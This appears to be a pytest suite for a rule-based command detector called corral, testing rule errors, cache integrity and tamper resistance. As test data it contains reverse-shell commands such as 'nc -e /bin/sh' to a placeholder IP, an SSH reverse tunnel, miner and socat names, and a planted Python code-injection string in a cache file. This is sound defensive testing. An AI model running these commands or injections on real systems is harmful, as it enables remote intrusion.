"""Rules load all or nothing, every problem named; the compiled set is cached on disk as validated data."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from corral.detect import Detector, _cache, _ruleset, builtin_rule_paths
from corral.errors import RuleError
from corral.policy import Policy

CORRAL = [sys.executable, "-c", "from corral.cli import main; main()"]
RULE = """title: Evil Word
id: 11111111-2222-3333-4444-555555555555
status: test
logsource: {category: process_creation, product: linux}
detection:
  sel:
    CommandLine|%s: evil
  condition: sel
level: high
"""


def _policy(tmp_path: Path, **detection: object) -> Policy:
    return Policy().with_overrides(detection=detection)


def test_misspelt_modifier_names_file_line_and_rule(tmp_path: Path) -> None:
    (tmp_path / "r.yml").write_text(RULE % "contians")
    with pytest.raises(RuleError) as exc:
        Detector.from_policy(_policy(tmp_path, rule_paths=[str(tmp_path)]))
    (p,) = exc.value.problems
    assert p.file == str(tmp_path / "r.yml") and p.line == 7
    assert "11111111-2222-3333-4444-555555555555" in (p.path or "") and "contians" in p.message


@pytest.mark.parametrize(
    "override",
    [
        {"disabled_rules": ["no-such-rule"]},
        {"level_overrides": {"no-such-rule": "low"}},
        {"exceptions": {"no-such-rule": [{"CommandLine|contains": "x"}]}},
    ],
)
def test_override_naming_no_rule_is_an_error(tmp_path: Path, override: dict[str, object]) -> None:
    with pytest.raises(RuleError, match="no-such-rule"):
        Detector.from_policy(_policy(tmp_path, **override))


def test_missing_rule_path_is_an_error(tmp_path: Path) -> None:
    with pytest.raises(RuleError, match="no such file or folder"):
        Detector.from_policy(_policy(tmp_path, rule_paths=[str(tmp_path / "nope")]))


def test_warn_downgrades_builtin_test_rules_only(tmp_path: Path) -> None:
    (tmp_path / "r.yml").write_text(RULE % "contians")
    pol = _policy(tmp_path, rule_paths=[str(tmp_path)], on_rule_error="warn")
    with pytest.raises(RuleError):  # a user rule stays an error under warn
        Detector.from_policy(pol)
    lenient = builtin_rule_paths(("test",))
    d = Detector.load([*builtin_rule_paths(), tmp_path], strict=True, lenient_under=[tmp_path])
    assert d.load_report.problems and lenient  # reported, not raised, for the lenient folder


def test_policy_check_compiles_rules(tmp_path: Path) -> None:
    (tmp_path / "r.yml").write_text(RULE % "contians")
    pol = tmp_path / "p.yaml"
    pol.write_text(f"detection:\n  rule_paths: [{tmp_path / 'r.yml'}]\n")
    out = subprocess.run([*CORRAL, "policy", "check", str(pol)], capture_output=True, text=True, timeout=60)
    assert out.returncode == 2 and "contians" in out.stderr and "r.yml:7" in out.stderr
    out = subprocess.run(
        [*CORRAL, "scan", "--policy", str(pol), "-"], input="ls\n", capture_output=True, text=True
    )
    assert out.returncode == 2 and "contians" in out.stderr and out.stdout == ""


def _fresh(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("CORRAL_HOME", str(tmp_path / "home"))
    _ruleset._in_process.cache_clear()
    return tmp_path / "home" / "cache" / "rules"


def _rule_dir(tmp_path: Path, modifier: str) -> Path:
    """A folder holding the one test rule, matching ``CommandLine|<modifier>: evil``."""
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "r.yml").write_text(RULE % modifier)
    return rules


def test_cache_is_written_hit_and_invalidated(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    root = _fresh(tmp_path, monkeypatch)
    rules = _rule_dir(tmp_path, "contains")
    first = _ruleset.ruleset([rules], {"disabled": [], "levels": {}, "exceptions": {}})
    assert not first.from_cache and len(list(root.glob("*.json"))) == 1
    assert oct(root.stat().st_mode & 0o777) == "0o700"
    _ruleset._in_process.cache_clear()
    again = _ruleset.ruleset([rules], {"disabled": [], "levels": {}, "exceptions": {}})
    assert again.from_cache and again.matchers["process_creation"]({"CommandLine": "so evil"}) == [0]
    (rules / "r.yml").write_text((RULE % "contains").replace("evil", "wicked"))  # content changed: new key
    _ruleset._in_process.cache_clear()
    edited = _ruleset.ruleset([rules], {"disabled": [], "levels": {}, "exceptions": {}})
    assert not edited.from_cache and edited.matchers["process_creation"]({"CommandLine": "so evil"}) == []


def test_rules_compiled_on_first_use_match_as_compiled_up_front(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # A set read from the cache compiles each log source, and each program's rules, on first use,
    # from many threads at once in a harness: the hits must be those of the freshly compiled set.
    _fresh(tmp_path, monkeypatch)
    ov = {"disabled": [], "levels": {}, "exceptions": {}}
    fresh = _ruleset.ruleset(builtin_rule_paths(), ov)
    _ruleset._in_process.cache_clear()
    cached = _ruleset.ruleset(builtin_rule_paths(), ov)
    assert cached.from_cache and not fresh.from_cache
    programs = [
        "nc",
        "ssh",
        "curl",
        "python3",
        "bash",
        "socat",
        "xmrig",
        "git",
        "find",
        "openssl",
        "wget",
        "perl",
    ]
    records = [
        {"Image": f"/usr/bin/{p}", "CommandLine": f"{p} {args}", "argv": [p, *args.split()]}
        for p in programs
        for args in (
            "-e /bin/sh 10.0.0.1 4444",
            "-R 9000:localhost:22 user@host",
            "--version",
            "-c 'import os'",
        )
    ]

    def hits(rules: _ruleset.RuleSet) -> list[list[int]]:
        return [rules.matchers["process_creation"](r) for r in records]

    with ThreadPoolExecutor(8) as pool:
        results = list(pool.map(lambda _: hits(cached), range(8)))
    expected = hits(fresh)
    assert any(expected) and all(r == expected for r in results)


def test_corrupt_or_planted_cache_is_rebuilt_not_trusted(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = _fresh(tmp_path, monkeypatch)
    rules = _rule_dir(tmp_path, "contains")
    ov = {"disabled": [], "levels": {}, "exceptions": {}}
    _ruleset.ruleset([rules], ov)
    (path,) = root.glob("*.json")
    doc = json.loads(path.read_text())
    marker = tmp_path / "pwned"
    doc["groups"]["process_creation"]["rules"][0][0] = f"__import__('os').system('touch {marker}')"
    path.write_text(json.dumps(doc))
    _ruleset._in_process.cache_clear()
    rebuilt = _ruleset.ruleset([rules], ov)
    assert not rebuilt.from_cache and not marker.exists()
    assert rebuilt.matchers["process_creation"]({"CommandLine": "evil"}) == [0]
    path.write_text("{not json")
    _ruleset._in_process.cache_clear()
    assert not _ruleset.ruleset([rules], ov).from_cache


def test_cache_in_a_folder_others_can_write_is_ignored(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = _fresh(tmp_path, monkeypatch)
    rules = _rule_dir(tmp_path, "contains")
    ov = {"disabled": [], "levels": {}, "exceptions": {}}
    _ruleset.ruleset([rules], ov)
    os.chmod(root, 0o777)
    _ruleset._in_process.cache_clear()
    assert not _ruleset.ruleset([rules], ov).from_cache


@pytest.mark.parametrize(
    "expr",
    [
        "K[0].__class__",
        "open('x')",
        "(lambda: 1)()",
        "l0.join(K)",
        "K[99]",
        "[x for x in K]",
        "globals()",
        "(l0 := K)",
        "any(*K)",
        "K[0].search(s0, pos=1)",
        "-K[0]",
        "K[0] < l0",
        "any(x for x in l0 if x)",
        "K[0].search.search(s0)",
    ],
)
def test_expression_check_refuses_anything_the_compiler_does_not_emit(expr: str) -> None:
    with pytest.raises(_cache.CacheInvalid):
        _cache.check_expr(expr, 2)


def test_builtin_pack_round_trips_through_the_cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    _fresh(tmp_path, monkeypatch)
    cold = Detector.builtin()
    _ruleset._in_process.cache_clear()
    warm = Detector.builtin()
    assert sorted(r.id for r in cold.rules) == sorted(r.id for r in warm.rules)
    from corral.events import TraceContext

    for cmd in ["nc -e /bin/sh 203.0.113.5 4444", "pytest -q", "ip n", "touch -t 202001010000 x"]:
        assert (
            cold.inspect_command(cmd, ctx=TraceContext()).rules
            == warm.inspect_command(cmd, ctx=TraceContext()).rules
        )


def test_a_cached_pattern_that_no_longer_compiles_blocks_and_reports(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Cached regexes compile on first use; one that fails then is an inspection error: blocked."""
    root = _fresh(tmp_path, monkeypatch)
    rules = _rule_dir(tmp_path, "re")
    Detector.load([rules])
    (path,) = root.glob("*.json")
    text = path.read_text()
    assert text.count('"re":"evil"') == 1
    path.write_text(text.replace('"re":"evil"', '"re":"(evil"'))  # as a future `re` might refuse it
    _ruleset._in_process.cache_clear()
    from corral.events import TraceContext

    det = Detector.load([rules])
    out = det.inspect_command("echo evil", ctx=TraceContext())
    assert out.verdict == "block" and out.rules == ["corral.inspection_error"]
    assert "(evil" in str(out.alerts[0].matched)
